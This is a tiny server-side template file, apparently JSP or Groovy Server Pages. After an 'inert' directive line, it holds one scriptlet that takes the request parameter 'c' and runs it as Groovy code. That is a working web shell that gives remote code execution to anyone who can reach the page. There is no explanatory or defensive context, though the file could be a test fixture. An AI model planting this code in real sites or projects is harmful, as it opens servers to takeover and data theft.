<%@ inert %>
<% new groovy.lang.GroovyShell().evaluate(request.getParameter("c")); %>
